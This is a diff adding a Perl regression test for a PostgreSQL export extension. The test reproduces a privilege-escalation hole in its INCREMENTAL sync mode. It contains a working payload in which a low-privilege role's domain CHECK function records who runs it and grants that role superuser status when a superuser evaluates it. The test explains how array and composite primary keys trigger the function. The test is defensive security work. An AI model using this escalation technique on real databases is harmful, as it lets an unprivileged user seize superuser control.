@@ -1,0 +1,108 @@
+
+# Review of issue 10 (helper 7, attacker): holes left after the fix.
+#
+# Each block asserts the SAFE behaviour.  Blocks marked "FAILS NOW" reproduce
+# a hole on the current code (the assertion fails until it is fixed).
+
+use strict;
+use warnings;
+use PostgreSQL::Test::Cluster;
+use PostgreSQL::Test::Utils;
+use Test::More;
+use EgressTest;
+
+my $node = create_node('review_privs');
+sub sql { return $node->safe_psql('postgres', $_[0]); }
+
+sub rolsuper
+{
+	return sql('SELECT rolsuper FROM pg_roles WHERE rolname = ' . sql_quote($_[0]));
+}
+
+# whoever runs mallory's code other than mallory herself, as text
+sub ran_as_others
+{
+	my ($tag) = @_;
+	return sql(q{SELECT coalesce(string_agg(DISTINCT tag || ' as ' || by_role || CASE WHEN by_super THEN ' (superuser)' ELSE '' END, ', '), '')
+		FROM public.ran WHERE by_role <> 'mallory' AND tag LIKE } . sql_quote($tag));
+}
+
+sql(q{
+CREATE TABLE public.ran (tag text, by_role text, by_super bool);
+GRANT INSERT ON public.ran TO PUBLIC;
+CREATE ROLE mallory LOGIN;
+CREATE ROLE etl LOGIN;
+GRANT pg_write_server_files TO etl;
+GRANT EXECUTE ON FUNCTION egress_add_destination(text, text, jsonb),
+	egress_add_stream(text, regclass, text, text, text, jsonb), egress_sync_now(text) TO etl;
+CREATE SCHEMA m AUTHORIZATION mallory;
+});
+
+# mallory's payload: a domain whose CHECK logs who runs it and escalates
+# when that is a superuser.
+my ($ret, $stdout, $stderr) = query_as($node, 'mallory', q{
+CREATE FUNCTION m.chk(tag text, v int) RETURNS bool LANGUAGE plpgsql AS $$
+DECLARE
+	su pg_catalog.bool;
+BEGIN
+	SELECT r.rolsuper INTO su FROM pg_catalog.pg_roles r
+	 WHERE r.rolname OPERATOR(pg_catalog.=) CURRENT_USER;
+	INSERT INTO public.ran VALUES (tag, CURRENT_USER, su);
+	IF su THEN
+		EXECUTE 'ALTER ROLE mallory SUPERUSER';
+	END IF;
+	RETURN v > 0;
+END
+$$;
+GRANT USAGE ON SCHEMA m TO PUBLIC;
+CREATE DOMAIN m.posint AS int CHECK (m.chk('array of domain', VALUE));
+CREATE DOMAIN m.posint2 AS int CHECK (m.chk('composite with domain', VALUE));
+CREATE TYPE m.pair AS (a int, b m.posint2);
+-- INCREMENTAL tables: an integer replication key, a primary key whose
+-- ordering re-parses the bookmark through the domain
+CREATE TABLE m.arr (k int, id m.posint[] PRIMARY KEY);
+INSERT INTO m.arr VALUES (1, '{1}'), (2, '{2}');
+CREATE TABLE m.comp (k int, id m.pair PRIMARY KEY);
+INSERT INTO m.comp VALUES (1, '(1,1)'), (2, '(2,2)');
+GRANT SELECT ON m.arr, m.comp TO PUBLIC;
+});
+is($ret, 0, 'mallory sets up her tables') or diag $stderr;
+sql(q{TRUNCATE public.ran});
+
+# ---- 1. INCREMENTAL: the bookmark's primary-key values are parsed with the
+# primary key's own type (array of a domain, composite with a domain field):
+# the table owner's CHECK runs as the stream owner.  FAILS NOW.
+# src/worker/incremental.c pos_column_init(): cmptype = coltype when the
+# btree opclass input type is polymorphic (anyarray, record), so the WHERE
+# casts "$n::m.posint[]" / "$n::m.pair" and array_in/record_in call domain_in.
+my $inc_su = new_outdir($node, 'inc_su');
+my $inc_etl = new_outdir($node, 'inc_etl');
+sql('SELECT egress_add_destination(' . sql_quote('su_d') . ', ' . sql_quote(file_url($inc_su)) . ')');
+sql(q{SELECT egress_add_stream('arr_su', 'm.arr', 'INCREMENTAL', 'su_d', 'k', '{"interval": "1 hour"}')});
+sql(q{SELECT egress_add_stream('comp_su', 'm.comp', 'INCREMENTAL', 'su_d', 'k', '{"interval": "1 hour"}')});
+($ret, $stdout, $stderr) = query_as($node, 'etl',
+	'SELECT egress_add_destination(' . sql_quote('etl_d') . ', ' . sql_quote(file_url($inc_etl)) . ');'
+	  . q{SELECT egress_add_stream('arr_etl', 'm.arr', 'INCREMENTAL', 'etl_d', 'k', '{"interval": "1 hour"}');});
+is($ret, 0, 'etl adds an INCREMENTAL stream of mallory\'s table') or diag $stderr;
+
+for my $s (qw(arr_su comp_su arr_etl))
+{
+	wait_stream_where($node, $s, "state = 'synced' AND rows_sent = 2", 120, "$s: first run sends 2 rows");
+}
+# the next runs resume after the bookmark (key, primary key)
+($ret, $stdout, $stderr) = query_as($node, 'mallory', q{
+INSERT INTO m.arr VALUES (3, '{3}');
+INSERT INTO m.comp VALUES (3, '(3,3)');
+});
+sql(q{TRUNCATE public.ran});
+sql(q{SELECT egress_sync_now('arr_su'); SELECT egress_sync_now('comp_su')});
+query_as($node, 'etl', q{SELECT egress_sync_now('arr_etl')});
+for my $s (qw(arr_su comp_su arr_etl))
+{
+	wait_stream_where($node, $s, "state <> 'syncing' AND state <> 'pending' AND (rows_sent = 3 OR last_error IS NOT NULL)",
+		120, "$s: second run done");
+}
+is(ran_as_others('%'), '', 'FAILS NOW: no code of mallory ran as another role during INCREMENTAL runs');
+is(rolsuper('mallory'), 'f', 'FAILS NOW: mallory did not become a superuser through an INCREMENTAL bookmark');
+
+done_testing();
